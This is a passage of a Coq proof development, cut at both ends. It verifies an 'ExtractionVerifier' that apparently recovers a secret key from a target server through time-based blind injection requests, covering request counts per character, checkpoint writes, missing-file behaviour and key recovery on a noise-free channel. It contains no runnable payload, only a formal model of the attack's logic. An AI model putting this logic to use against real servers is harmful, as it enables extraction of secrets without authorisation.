    (position : Z) (w : World S) :
  1 <= position <= len extracted ->
  exists (c : ascii) (recorded : bool) (w' : World S),
    ExtractionVerifier.verify_body self output_file extracted
      (corrected, mismatches) position w =
    (Ok (corrected +:+ String c EmptyString,
         if recorded then mismatches ++ [position] else mismatches), w') /\
    asked (verify_question position (ExtractionVerifier.delay_size self))
      1 60 w w' /\
    (files w' = files w \/
     exists text, files w' = <[output_file := text]> (files w)).
Proof.
  intros Hp. destruct (getitem_in_range extracted position Hp)
    as [expected Hget].
  rewrite (verify_body_unfold _ _ _ _ _ _ _ _ Hget).
  rewrite character_matches_matching, range_one_sample.
  set (w0 := checkpointed output_file corrected position w).
  assert (F0 : files w0 = files w \/
               exists text, files w0 = <[output_file := text]> (files w)).
  { unfold w0. rewrite files_checkpointed.
    destruct (position mod 50 =? 0); [right; by eexists|by left]. }
  destruct (matching_bounded (reset_url (ExtractionVerifier.server self))
              (NotEqual position (ord expected)
                 (ExtractionVerifier.delay_size self))
              (ExtractionVerifier.threshold self) [0] w0)
    as (v & n & -> & Hhi & Hlo & _).
  specialize (Hlo ltac:(done)). cbn [length] in Hhi.
  set (w1 := probed _ _ n w0).
  assert (A1 : asked
                 (verify_question position
                    (ExtractionVerifier.delay_size self)) 1 4 w w1).
  { apply (asked_from _ _ _ w0); [apply checkpointed_sent|].
    eapply asked_weaken; [| | |apply asked_probed]; [|exact Hlo|lia].
    intros inj ->. right. by eexists. }
  destruct v.
  - exists expected, false, w1. split; [reflexivity|]. split; [|exact F0].
    eapply asked_weaken; [| | |exact A1]; [done|lia|lia].
  - rewrite verifier_extract_character_rebuilding.
    destruct (rebuilding_asked (reset_url (ExtractionVerifier.server self))
                (ExtractionVerifier.delay_size self)
                (ExtractionVerifier.threshold self) position 7 w1)
      as (ch & w2 & -> & A2 & F2 & _).
    exists ch, true, w2. split; [reflexivity|]. split.
    + assert (A2' : asked
                      (verify_question position
                         (ExtractionVerifier.delay_size self))
                      8 56 w1 w2).
      { change (8 * Nat.min 1 (Z.to_nat 7))%nat with 8%nat in A2.
        change (8 * Z.to_nat 7)%nat with 56%nat in A2.
        eapply asked_weaken; [| | |exact A2]; [|lia|lia].
        intros inj Hq. by left. }
      eapply asked_weaken;
        [| | |exact (asked_trans _ _ _ _ _ _ _ _ A1 A2')];
        [done|lia|lia].
    + by rewrite F2.
Qed.

Lemma verify_loop_asked (xs : list Z) (corrected : string)
    (mismatches : list Z) (w : World S) :
  Forall (fun p => 1 <= p <= len extracted) xs ->
  exists (added : string) (recorded : list Z) (w' : World S),
    for_fold xs (ExtractionVerifier.verify_body self output_file extracted)
      (corrected, mismatches) w =
    (Ok (corrected +:+ added, mismatches ++ recorded), w') /\
    String.length added = length xs /\
    recorded ⊆ xs /\
    asked
      (fun inj =>
         exists p, p ∈ xs /\
           verify_question p (ExtractionVerifier.delay_size self) inj)
      (length xs) (60 * length xs) w w' /\
    (files w' = files w \/
     exists text, files w' = <[output_file := text]> (files w)).
Proof.
  revert corrected mismatches w.
  induction xs as [|x xs IH]; intros corrected mismatches w Hxs.
  - exists EmptyString, [], w. rewrite append_empty_r, app_nil_r.
    split; [reflexivity|]. split; [reflexivity|]. split; [done|].
    split; [apply asked_refl|by left].
  - apply Forall_cons in Hxs as [Hx Hxs].
    cbn [for_fold]. unfold bind.
    destruct (verify_body_asked corrected mismatches x w Hx)
      as (c & flag & w1 & -> & A1 & F1).
    destruct (IH (corrected +:+ String c EmptyString)
                (if flag then mismatches ++ [x] else mismatches) w1 Hxs)
      as (added & recorded & w2 & -> & Hlen & Hsub & A2 & F2).
    exists (String c added),
      ((if flag then [x] else []) ++ recorded), w2.
    rewrite append_assoc, append_cons, append_empty_l.
    split; [destruct flag; by rewrite <- ?app_assoc|].
    split; [cbn [String.length length]; lia|].
    split.
    { intros p Hp. apply elem_of_app in Hp as [Hp|Hp].
      - destruct flag; [|by apply elem_of_nil in Hp].
        apply list_elem_of_singleton in Hp as ->. by left.
      - right. by apply Hsub. }
    split.
    + eapply asked_weaken;
        [| | |apply (asked_trans
                       (fun inj =>
                          exists p, p ∈ x :: xs /\
                            verify_question p
                              (ExtractionVerifier.delay_size self) inj)
                       1 60 (length xs) (60 * length xs) w w1 w2)];
        [done|cbn [length]; lia|cbn [length]; lia| |].
      * eapply asked_weaken; [| | |exact A1]; [|lia|lia].
        intros inj Hq. exists x. split; [by left|exact Hq].
      * eapply asked_weaken; [| | |exact A2]; [|lia|lia].
        intros inj (p & Hp & Hq). exists p. split; [by right|exact Hq].
    + destruct F2 as [F2|[text F2]], F1 as [F1|[text1 F1]].
      * left. congruence.
      * right. exists text1. congruence.
      * right. exists text. congruence.
      * right. exists text. rewrite F2, F1. apply insert_insert_eq.
Qed.

End VerificationCost.

Lemma range_positions_bound (n : nat) :
  Forall (fun p => 1 <= p <= Z.of_nat n) (range 1 (Z.of_nat n + 1) 1).
Proof.
  apply Forall_forall. intros p Hp. by apply range_positions_elem.
Qed.

(** The run of [verify_and_correct] on any channel. *)
Lemma verify_and_correct_run {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file text : string)
    (w : World S) :
  files w !! input_file = Some text ->
  exists (corrected : string) (mismatches : list Z) (w' : World S),
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok (corrected, mismatches), w') /\
    len corrected = len (universal_newlines text) /\
    files w' = <[output_file := corrected]> (files w) /\
    asked
      (fun inj =>
         exists p, 1 <= p <= len (universal_newlines text) /\
           verify_question p (ExtractionVerifier.delay_size self) inj)
      (String.length (universal_newlines text))
      (60 * String.length (universal_newlines text)) w w' /\
    (universal_newlines text = EmptyString ->
     corrected = EmptyString /\ mismatches = [] /\ sent w' = sent w).
Proof.
  intros Hfile.
  set (extracted := universal_newlines text).
  destruct (verify_loop_asked self output_file extracted
              (range 1 (len extracted + 1) 1) EmptyString [] w)
    as (added & recorded & w1 & Hrun & Hlen & Hsub & Hasked & Hfiles).
  { apply range_positions_bound. }
  rewrite append_empty_l, app_nil_l in Hrun.
  unfold ExtractionVerifier.verify_and_correct, bind, read_file.
  rewrite Hfile. fold extracted. rewrite Hrun.
  unfold len in Hlen, Hasked. rewrite range_positions in Hlen, Hasked.
  rewrite length_map, length_seq in Hlen, Hasked.
  eexists; eexists; eexists. split; [reflexivity|].
  split; [unfold len; lia|]. split.
  { cbn [files]. destruct Hfiles as [->|[t ->]]; [done|].
    apply insert_insert_eq. }
  split.
  - destruct Hasked as (new & E & F & L). exists new.
    split; [exact E|]. split; [|exact L].
    eapply Forall_impl; [exact F|]. intros inj (p & Hp & Hq).
    exists p. split; [|exact Hq].
    rewrite <- range_positions in Hp.
    apply range_positions_elem in Hp. unfold len. lia.
  - intros Hempty. rewrite Hempty in *. cbn in Hlen, Hasked.
    change (range 1 (len EmptyString + 1) 1) with (@nil Z) in Hsub.
    destruct added; [|done]. split; [done|].
    split.
    { destruct recorded as [|r recorded]; [done|].
      exfalso. apply (elem_of_nil r). apply Hsub. by left. }
    destruct Hasked as (new & E & _ & L).
    destruct new; [exact E|cbn in L; lia].
Qed.

Section VerificationLog.
Context {S : Type} `{!Transport S}.
Variables (self : ExtractionVerifier.t) (output_file extracted : string).

(** The checkpoint of a turn is stamped with the requests made before
    it. *)
Lemma written_checkpointed (corrected : string) (position : Z)
    (w : World S) :
  written (checkpointed output_file corrected position w) =
  (if position mod 50 =? 0
   then [(length (sent w), output_file, corrected)]
   else []) ++ written w.
Proof. unfold checkpointed. by destruct (position mod 50 =? 0). Qed.

(** One turn, by what it leaves in the world: on a multiple of 50 one
    write of the string corrected so far, made before any request of the
    turn; then between 1 and 60 requests, all of them questions about its
    position. *)
Lemma verify_body_log (corrected : string) (mismatches : list Z)
    (position : Z) (w : World S) :
  1 <= position <= len extracted ->
  exists (c : ascii) (recorded : bool) (new : list injection)
         (w' : World S),
    ExtractionVerifier.verify_body self output_file extracted
      (corrected, mismatches) position w =
    (Ok (corrected +:+ String c EmptyString,
         if recorded then mismatches ++ [position] else mismatches), w') /\
    sent w' = new ++ sent w /\
    Forall (verify_question position (ExtractionVerifier.delay_size self))
      new /\
    (1 <= length new <= 60)%nat /\
    written w' =
    (if position mod 50 =? 0
     then [(length (sent w), output_file, corrected)]
     else []) ++ written w.
Proof.
  intros Hp. destruct (getitem_in_range extracted position Hp)
    as [expected Hget].
  rewrite (verify_body_unfold _ _ _ _ _ _ _ _ Hget).
  rewrite character_matches_matching, range_one_sample.
  set (w0 := checkpointed output_file corrected position w).
  destruct (matching_bounded (reset_url (ExtractionVerifier.server self))
              (NotEqual position (ord expected)
                 (ExtractionVerifier.delay_size self))
              (ExtractionVerifier.threshold self) [0] w0)
    as (v & n & -> & Hhi & Hlo & _).
  specialize (Hlo ltac:(done)). cbn [length] in Hhi.
  set (w1 := probed _ _ n w0).
  assert (W1 : written w1 = written w0) by reflexivity.
  assert (A1 : asked
                 (verify_question position
                    (ExtractionVerifier.delay_size self)) 1 4 w w1).
  { apply (asked_from _ _ _ w0); [apply checkpointed_sent|].
    eapply asked_weaken; [| | |apply asked_probed]; [|exact Hlo|lia].
    intros inj ->. right. by eexists. }
  destruct v.
  - destruct A1 as (new & E & F & L).
    exists expected, false, new, w1. split; [reflexivity|].
    split; [exact E|]. split; [exact F|]. split; [lia|].
    rewrite W1. apply written_checkpointed.
  - rewrite verifier_extract_character_rebuilding.
    destruct (rebuilding_asked (reset_url (ExtractionVerifier.server self))
                (ExtractionVerifier.delay_size self)
                (ExtractionVerifier.threshold self) position 7 w1)
      as (ch & w2 & -> & A2 & _ & W2).
    assert (A2' : asked
                    (verify_question position
                       (ExtractionVerifier.delay_size self))
                    8 56 w1 w2).
    { change (8 * Nat.min 1 (Z.to_nat 7))%nat with 8%nat in A2.
      change (8 * Z.to_nat 7)%nat with 56%nat in A2.
      eapply asked_weaken; [| | |exact A2]; [|lia|lia].
      intros inj Hq. by left. }
    destruct (asked_trans _ _ _ _ _ _ _ _ A1 A2') as (new & E & F & L).
    exists ch, true, new, w2. split; [reflexivity|].
    split; [exact E|]. split; [exact F|]. split; [cbn in L; lia|].
    rewrite W2, W1. apply written_checkpointed.
Qed.

(** The loop, position by position.  The [n] turns build a string of [n]
    characters; after the first [k] of them the corrected string is its
    first [k] characters, the requests sent are those of the first [k]
    turns, and the writes made are the checkpoints among them, each made
    before the requests of its turn, with the characters of the turns
    before it. *)
Lemma verify_loop_log (n : nat) (w : World S) :
  Z.of_nat n <= len extracted ->
  exists (corrected : string) (turns : list (list injection)),
    String.length corrected = n /\
    length turns = n /\
    Forall2
      (fun (position : Z) (new : list injection) =>
         Forall (verify_question position
                   (ExtractionVerifier.delay_size self)) new /\
         (1 <= length new <= 60)%nat)
      (range 1 (Z.of_nat n + 1) 1) turns /\
    forall k : nat,
      (k <= n)%nat ->
      exists (mismatches : list Z) (w_k : World S),
        verified_up_to self output_file extracted (Z.of_nat k) w =
        (Ok (substring 0 k corrected, mismatches), w_k) /\
        sent w_k = concat (rev (take k turns)) ++ sent w /\
        written w_k =
        rev (checkpoint_writes 50 1 output_file (length (sent w))
               (take k turns) (substring 0 k corrected)) ++ written w.
Proof.
  induction n as [|n IH]; intros Hn.
  - exists EmptyString, []. split; [done|]. split; [done|].
    split; [constructor|].
    intros k Hk. replace k with 0%nat by lia. by exists [], w.
  - destruct IH as (corrected & turns & Hlen & Hturns & Hper & Hk); [lia|].
    destruct (Hk n ltac:(lia)) as (ms & w_n & Hrun & Hsent & Hwritten).
    assert (Hwhole : substring 0 n corrected = corrected)
      by (rewrite <- Hlen; apply substring_whole).
    assert (Hall : take n turns = turns)
      by (rewrite <- Hturns; apply firstn_all).
    rewrite Hwhole in Hrun, Hwritten. rewrite Hall in Hsent, Hwritten.
    destruct (verify_body_log corrected ms (Z.of_nat n + 1) w_n
                ltac:(lia))
      as (c & flag & new & w' & Hbody & Hsent' & Hq & Hbound & Hwritten').
    exists (corrected +:+ String c EmptyString), (turns ++ [new]).
    split; [rewrite length_append, Hlen; cbn; lia|].
    split; [rewrite length_app, Hturns; cbn; lia|].
    split.
    { rewrite range_positions_snoc. apply Forall2_app; [exact Hper|].
      constructor; [by split|constructor]. }
    intros k Hle. destruct (Nat.eq_dec k (Datatypes.S n)) as [->|Hne].
    + exists (if flag then ms ++ [Z.of_nat n + 1] else ms), w'.
      unfold verified_up_to in *.
      rewrite range_positions_snoc, (for_fold_snoc _ _ _ _ _ _ _ Hrun).
      assert (Hwhole' : substring 0 (Datatypes.S n)
                          (corrected +:+ String c EmptyString) =
                        corrected +:+ String c EmptyString).
      { replace (Datatypes.S n)
          with (String.length (corrected +:+ String c EmptyString))
          by (rewrite length_append, Hlen; cbn; lia).
        apply substring_whole. }
      assert (Hall' : take (Datatypes.S n) (turns ++ [new]) = turns ++ [new]).
      { replace (Datatypes.S n) with (length (turns ++ [new]))
          by (rewrite length_app, Hturns; cbn; lia).
        apply firstn_all. }
      rewrite Hwhole', Hall'.
      split; [exact Hbody|]. split.
      { rewrite rev_app_distr. cbn [rev app concat].
        rewrite <- app_assoc, <- Hsent. exact Hsent'. }
      rewrite checkpoint_writes_snoc by lia.
      rewrite rev_app_distr, <- app_assoc, <- Hwritten, Hwritten'.
      rewrite Hturns.
      replace (Z.of_nat (Datatypes.S n)) with (Z.of_nat n + 1) by lia.
      destruct ((Z.of_nat n + 1) mod 50 =? 0); [|done].
      cbn [rev app]. do 3 f_equal.
      * replace (Datatypes.S n - 1)%nat with n by lia.
        rewrite take_app_le, Hall by lia.
        rewrite Hsent, length_app, length_concat_rev. lia.
      * replace (Datatypes.S n - 1)%nat with n by lia.
        rewrite <- Hlen. symmetry. apply substring_prefix.
    + destruct (Hk k ltac:(lia)) as (ms_k & w_k & Hrun_k & Hsent_k & Hwr_k).
      exists ms_k, w_k.
      rewrite substring_within by lia.
      rewrite take_app_le by lia.
      by repeat split.
Qed.

End VerificationLog.

(** The run of [verify_and_correct] with its requests, turn by turn, and
    its writes. *)
Lemma verify_and_correct_log {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file text : string)
    (w : World S) :
  files w !! input_file = Some text ->
  exists (corrected : string) (mismatches : list Z)
         (turns : list (list injection)) (w_end : World S),
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok (corrected, mismatches), w_end) /\
    length turns = String.length (universal_newlines text) /\
    Forall2
      (fun (position : Z) (new : list injection) =>
         Forall (verify_question position
                   (ExtractionVerifier.delay_size self)) new /\
         (1 <= length new <= 60)%nat)
      (range 1 (len (universal_newlines text) + 1) 1) turns /\
    sent w_end = concat (rev turns) ++ sent w /\
    written w_end =
    (length (sent w_end), output_file, corrected) ::
    rev (checkpoint_writes 50 1 output_file (length (sent w)) turns
           corrected) ++
    written w.
Proof.
  intros Hfile.
  set (extracted := universal_newlines text).
  destruct (verify_loop_log self output_file extracted
              (String.length extracted) w ltac:(unfold len; lia))
    as (corrected & turns & Hlen & Hturns & Hper & Hk).
  destruct (Hk (String.length extracted) ltac:(lia))
    as (mismatches & w1 & Hrun & Hsent & Hwritten).
  assert (Hwhole : substring 0 (String.length extracted) corrected =
                   corrected)
    by (rewrite <- Hlen; apply substring_whole).
  assert (Hall : take (String.length extracted) turns = turns)
    by (rewrite <- Hturns; apply firstn_all).
  rewrite Hwhole in Hrun, Hwritten. rewrite Hall in Hsent, Hwritten.
  unfold verified_up_to in Hrun.
  exists corrected, mismatches, turns.
  unfold ExtractionVerifier.verify_and_correct, bind, read_file.
  rewrite Hfile. fold extracted. unfold len. rewrite Hrun.
  unfold write_file, ret. eexists.
  split; [reflexivity|]. cbn [sent files written].
  split; [exact Hturns|]. split; [exact Hper|].
  split; [exact Hsent|]. by rewrite Hwritten.
Qed.

(** X8: what [verify_and_correct] leaves behind.  When the input file
    exists, on any channel: the corrected string is as long as the string
    read; of the files only [output_file] changes, and it holds the
    corrected string.  The requests fall into one turn for each character
    read, in the order of the positions; the requests of a turn are
    inequality or bit questions about its position, at least 1 and at most
    60 of them; so an empty input file is answered with the empty string
    and no mismatch, without a request. *)
Theorem verify_and_correct_effects {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file text : string)
    (w : World S) :
  files w !! input_file = Some text ->
  exists (corrected : string) (mismatches : list Z)
         (turns : list (list injection)) (w' : World S),
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok (corrected, mismatches), w') /\
    len corrected = len (universal_newlines text) /\
    files w' = <[output_file := corrected]> (files w) /\
    sent w' = concat (rev turns) ++ sent w /\
    Forall2
      (fun (position : Z) (new : list injection) =>
         Forall (verify_question position
                   (ExtractionVerifier.delay_size self)) new /\
         (1 <= length new <= 60)%nat)
      (range 1 (len (universal_newlines text) + 1) 1) turns /\
    asked
      (fun inj =>
         exists p, 1 <= p <= len (universal_newlines text) /\
           verify_question p (ExtractionVerifier.delay_size self) inj)
      (String.length (universal_newlines text))
      (60 * String.length (universal_newlines text)) w w' /\
    (universal_newlines text = EmptyString ->
     corrected = EmptyString /\ mismatches = [] /\ sent w' = sent w).
Proof.
  intros Hfile.
  destruct (verify_and_correct_log self input_file output_file text w Hfile)
    as (corrected & mismatches & turns & w' & Hrun & _ & Hper & Hsent & _).
  destruct (verify_and_correct_run self input_file output_file text w Hfile)
    as (corrected' & mismatches' & w'' & Hrun' & Hlen & Hfiles & Hasked &
        Hempty).
  rewrite Hrun in Hrun'. injection Hrun' as <- <- <-.
  exists corrected, mismatches, turns, w'. split; [exact Hrun|].
  split; [exact Hlen|]. split; [exact Hfiles|]. split; [exact Hsent|].
  split; [exact Hper|]. split; [exact Hasked|exact Hempty].
Qed.

(** X8 at work: the file AC against a target that cannot be reached. *)
Lemma verify_and_correct_effects_witness :
  exists (corrected : string) (mismatches : list Z)
         (turns : list (list injection)) (w' : World unit),
    ExtractionVerifier.verify_and_correct (Transport0 := unreachable)
      (ExtractionVerifier.__init__ "http://target" 60000000)
      "extracted_output.txt" "verified_output.txt"
      (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]}) =
    (Ok (corrected, mismatches), w') /\
    files w' =
    <["verified_output.txt" := corrected]>
      {[ "extracted_output.txt" := "AC" ]} /\
    sent w' = concat (rev turns) ++ [] /\
    length turns = 2%nat.
Proof.
  destruct (verify_and_correct_effects (Transport0 := unreachable)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "extracted_output.txt" "verified_output.txt" "AC"
    (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]}))
    as (corrected & mismatches & turns & w' & Hrun & _ & Hfiles & Hsent &
        Hper & _);
    [reflexivity|].
  exists corrected, mismatches, turns, w'.
  split; [exact Hrun|]. split; [exact Hfiles|]. split; [exact Hsent|].
  apply Forall2_length in Hper. by rewrite <- Hper.
Defined.

(** X9: without its input file the verification does nothing.  When
    [input_file] does not exist [verify_and_correct] raises
    [FileNotFoundError] before any request is made or any file written. *)
Theorem verify_and_correct_missing_file {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file : string)
    (w : World S) :
  files w !! input_file = None ->
  ExtractionVerifier.verify_and_correct self input_file output_file w =
  (Raise FileNotFoundError, w).
Proof.
  intros Hfile.
  unfold ExtractionVerifier.verify_and_correct, bind, read_file.
  by rewrite Hfile.
Qed.

(** X9 at work: no file at all. *)
Lemma verify_and_correct_missing_file_witness :
  ExtractionVerifier.verify_and_correct (Transport0 := unreachable)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "extracted_output.txt" "verified_output.txt" (mkWorld tt [] ∅) =
  (Raise FileNotFoundError, mkWorld tt [] ∅).
Proof.
  apply (verify_and_correct_missing_file (Transport0 := unreachable)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "extracted_output.txt" "verified_output.txt" (mkWorld tt [] ∅)).
  reflexivity.
Defined.

(** ** Verification over a noise-free channel *)

Lemma ord_inj (a b : ascii) : ord a = ord b -> a = b.
Proof.
  unfold ord. intros E. apply N2Z.inj in E.
  by rewrite <- (ascii_N_embedding a), <- (ascii_N_embedding b), E.
Qed.

Lemma getitem_of_get (s : string) (i : nat) (c : ascii) :
  String.get i s = Some c -> getitem s (Z.of_nat i + 1 - 1) = Ok c.
Proof.
  intros Hget. rewrite getitem_get by lia.
  replace (Z.to_nat (Z.of_nat i + 1 - 1)) with i by lia. by rewrite Hget.
Qed.

Lemma differences_same (first : Z) (a : string) : differences first a a = [].
Proof.
  revert first. induction a as [|c a IH]; intros first; [done|].
  cbn [differences]. by rewrite Ascii.eqb_refl.
Qed.

Section VerificationTruthful.
Context {S : Type} `{!Transport S}.
Variables (self : ExtractionVerifier.t) (output_file extracted : string).

Local Notation "'url'" := (reset_url (ExtractionVerifier.server self)).
Local Notation "'delay'" := (ExtractionVerifier.delay_size self).
Local Notation "'thr'" := (ExtractionVerifier.threshold self).

(** A turn on a truthful channel: the stored character goes to the output,
    and the position is recorded exactly when the input character is
    another one. *)
Lemma verify_body_truthful (corrected : string) (mismatches : list Z)
    (i : nat) (x y : ascii) (w : World S) :
  getitem extracted (Z.of_nat i + 1 - 1) = Ok x ->
  answers_bits url delay thr (Z.of_nat i + 1) (ord y) ->
  (forall (v : Z) (s : S),
      exists elapsed : Q,
        fst (post url (NotEqual (Z.of_nat i + 1) v delay) s) =
        Some elapsed /\
        if v =? ord y then (elapsed < thr)%Q else (thr < elapsed)%Q) ->
  exists w' : World S,
    ExtractionVerifier.verify_body self output_file extracted
      (corrected, mismatches) (Z.of_nat i + 1) w =
    (Ok (corrected +:+ String y EmptyString,
         if Ascii.eqb x y then mismatches
         else mismatches ++ [Z.of_nat i + 1]), w').
Proof.
  intros Hget Hbits Hneq.
  rewrite (verify_body_unfold _ _ _ _ _ _ _ _ Hget).
  rewrite character_matches_matching, range_one_sample.
  set (w0 := checkpointed output_file corrected (Z.of_nat i + 1) w).
  destruct (Ascii.eqb_spec x y) as [->|Hxy].
  - destruct (Hneq (ord y) (net w0)) as (e & Hpost & He).
    rewrite Z.eqb_refl in He.
    rewrite (matching_once_accepts url
               (NotEqual (Z.of_nat i + 1) (ord y) delay) thr 0 w0 (Some e)
               Hpost);
      [by eexists|].
    apply Qltb_ge. by apply Qlt_le_weak.
  - assert (Hslow : forall n s,
               Forall (not_fast thr)
                 (replies url (NotEqual (Z.of_nat i + 1) (ord x) delay) n s)).
    { induction n as [|n IH]; intros s; [constructor|].
      rewrite replies_cons. constructor; [|apply IH].
      destruct (Hneq (ord x) s) as (e & Hpost & He).
      rewrite Hpost.
      replace (ord x =? ord y) with false in He.
      - unfold not_fast. cbn. apply Qltb_ge. by apply Qlt_le_weak.
      - symmetry. apply Z.eqb_neq. intros E. by apply Hxy, ord_inj. }
    destruct (Hneq (ord x) (net w0)) as (e & Hpost & He).
    replace (ord x =? ord y) with false in He
      by (symmetry; apply Z.eqb_neq; intros E; by apply Hxy, ord_inj).
    rewrite matching_step, Hpost.
    apply Qltb_lt in He. rewrite He.
    rewrite retrying_slow by apply Hslow.
    rewrite verifier_extract_character_rebuilding.
    destruct (rebuilding_truthful _ _ _ _ _ Hbits 7
                (probed url (NotEqual (Z.of_nat i + 1) (ord x) delay)
                   (length (range 0 3 1))
                   (probed url (NotEqual (Z.of_nat i + 1) (ord x) delay) 1 w0))
                (ord_bounds y))
      as (c & w2 & Hchr & -> & _); [lia|].
    rewrite chr_ord in Hchr. injection Hchr as <-. by eexists.
Qed.

Lemma verify_loop_truthful (rest_e rest_k : string) (first : nat)
    (corrected : string) (mismatches : list Z) (w : World S) :
  String.length rest_e = String.length rest_k ->
  (forall (i : nat) (x : ascii),
      String.get i rest_e = Some x ->
      getitem extracted (Z.of_nat (first + i) + 1 - 1) = Ok x) ->
  (forall (i : nat) (y : ascii),
      String.get i rest_k = Some y ->
      answers_bits url delay thr (Z.of_nat (first + i) + 1) (ord y) /\
      forall (v : Z) (s : S),
        exists elapsed : Q,
          fst (post url (NotEqual (Z.of_nat (first + i) + 1) v delay) s) =
          Some elapsed /\
          if v =? ord y then (elapsed < thr)%Q else (thr < elapsed)%Q) ->
  exists w' : World S,
    for_fold (map (fun i => Z.of_nat i + 1)
                (seq first (String.length rest_e)))
      (ExtractionVerifier.verify_body self output_file extracted)
      (corrected, mismatches) w =
    (Ok (corrected +:+ rest_k,
         mismatches ++ differences (Z.of_nat first + 1) rest_e rest_k),
     w').
Proof.
  revert rest_k first corrected mismatches w.
  induction rest_e as [|x rest_e IH];
    intros [|y rest_k] first corrected mismatches w Hlen Hin Hkey;
    try discriminate Hlen.
  - exists w. cbn. by rewrite append_empty_r, app_nil_r.
  - cbn [String.length seq map for_fold]. unfold bind.
    destruct (Hkey 0%nat y eq_refl) as [Hbits Hneq].
    rewrite Nat.add_0_r in Hbits, Hneq.
    destruct (verify_body_truthful corrected mismatches first x y w)
      as [w1 ->]; [|exact Hbits|exact Hneq|].
    { specialize (Hin 0%nat x eq_refl). by rewrite Nat.add_0_r in Hin. }
    destruct (IH rest_k (Datatypes.S first)
                (corrected +:+ String y EmptyString)
                (if Ascii.eqb x y then mismatches
                 else mismatches ++ [Z.of_nat first + 1]) w1)
      as [w2 ->].
    { cbn in Hlen. lia. }
    { intros i x' Hget. specialize (Hin (Datatypes.S i) x' Hget).
      by replace (Datatypes.S first + i)%nat
        with (first + Datatypes.S i)%nat by lia. }
    { intros i y' Hget. specialize (Hkey (Datatypes.S i) y' Hget).
      by replace (Datatypes.S first + i)%nat
        with (first + Datatypes.S i)%nat by lia. }
    exists w2. rewrite append_assoc, append_cons, append_empty_l.
    cbn [differences].
    replace (Z.of_nat (Datatypes.S first) + 1)
      with (Z.of_nat first + 1 + 1) by lia.
    destruct (Ascii.eqb x y); [done|]. by rewrite <- app_assoc.
Qed.

End VerificationTruthful.

(** The whole pass on a truthful channel. *)
Lemma verify_truthful {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file text key : string)
    (w : World S) :
  answers_key_bits (reset_url (ExtractionVerifier.server self))
    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self) key ->
  answers_key_inequalities (reset_url (ExtractionVerifier.server self))
    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self) key ->
  files w !! input_file = Some text ->
  String.length (universal_newlines text) = String.length key ->
  exists w' : World S,
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok (key, differences 1 (universal_newlines text) key), w') /\
    files w' !! output_file = Some key.
Proof.
  intros Hbits Hneq Hfile Hlen.
  unfold ExtractionVerifier.verify_and_correct, bind, read_file.
  rewrite Hfile. unfold len. rewrite range_positions.
  destruct (verify_loop_truthful self output_file (universal_newlines text)
              (universal_newlines text) key 0 EmptyString [] w Hlen)
    as [w1 ->].
  { intros i x Hget. by apply getitem_of_get. }
  { intros i y Hget. split; [by apply Hbits|].
    intros v s. by apply Hneq. }
  rewrite append_empty_l, app_nil_l.
  eexists. split; [reflexivity|]. cbn [files]. apply lookup_insert_eq.
Qed.

Lemma noise_free_answers_key_inequalities (key : string)
    (fast slow threshold : Q) (url : string) (delay_size : Z) :
  (fast < threshold)%Q -> (threshold < slow)%Q ->
  answers_key_inequalities (Transport0 := noise_free key fast slow)
    url delay_size threshold key.
Proof.
  intros Hfast Hslow i c v s Hget.
  unfold post, noise_free. cbn [fst holds]. unfold unicode_substr.
  replace (1 <=? Z.of_nat i + 1) with true
    by (symmetry; apply Z.leb_le; lia).
  replace (Z.to_nat (Z.of_nat i + 1 - 1)) with i by lia.
  rewrite Hget. cbn [fmap option_fmap option_map].
  eexists. split; [reflexivity|].
  rewrite (Z.eqb_sym v). by destruct (ord c =? v).
Qed.

(** X10: verification restores the key.  On a channel without noise or
    failures that answers the bit and the inequality questions by the
    characters of [key], [verify_and_correct] on an input of the same
    length returns the key itself, and its mismatch list is exactly the
    positions at which the input differs from the key; the output file
    holds the key. *)
Theorem verify_restores_key {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file text key : string)
    (w : World S) :
  answers_key_bits (reset_url (ExtractionVerifier.server self))
    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self) key ->
  answers_key_inequalities (reset_url (ExtractionVerifier.server self))
    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self) key ->
  files w !! input_file = Some text ->
  String.length (universal_newlines text) = String.length key ->
  exists w' : World S,
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok (key, differences 1 (universal_newlines text) key), w') /\
    files w' !! output_file = Some key.
Proof. apply verify_truthful. Qed.

(** X10 at work: the input ACxB against the key ABxD. *)
Lemma verify_restores_key_witness :
  exists w' : World unit,
    ExtractionVerifier.verify_and_correct
      (Transport0 := noise_free "ABxD" 0.25 1)
      (ExtractionVerifier.__init__ "http://target" 60000000)
      "extracted_output.txt" "verified_output.txt"
      (mkWorld tt [] {[ "extracted_output.txt" := "ACxB" ]}) =
    (Ok ("ABxD", [2; 4]), w') /\
    files w' !! "verified_output.txt" = Some "ABxD".
Proof.
  apply (verify_restores_key (Transport0 := noise_free "ABxD" 0.25 1)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "extracted_output.txt" "verified_output.txt" "ACxB" "ABxD"
    (mkWorld tt [] {[ "extracted_output.txt" := "ACxB" ]})).
  - apply noise_free_answers_key_bits; [reflexivity|discriminate].
  - apply noise_free_answers_key_inequalities; reflexivity.
  - reflexivity.
  - reflexivity.
Defined.

(** X11: verification is idempotent on a noise-free channel.  After a
    pass that restored the key (on a truthful channel, for a key that is
    read back from a file as it was written, that is without carriage
    return), a second pass over the output of the first returns the same
    string and no mismatch. *)
Theorem verification_idempotent {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t)
    (input_file output_file second_output text key : string) (w : World S) :
  answers_key_bits (reset_url (ExtractionVerifier.server self))
